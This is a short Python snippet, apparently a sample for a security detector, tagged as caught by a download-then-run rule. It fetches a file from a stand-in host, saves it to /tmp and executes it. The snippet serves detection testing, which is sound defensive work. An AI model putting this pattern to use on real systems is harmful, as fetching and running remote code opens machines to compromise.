# evades: caught by execution/download-then-run
import requests, subprocess
with open("/tmp/helper", "wb") as out:
    out.write(requests.get("https://code.invalid/helper").content)
subprocess.Popen(["/tmp/helper"])
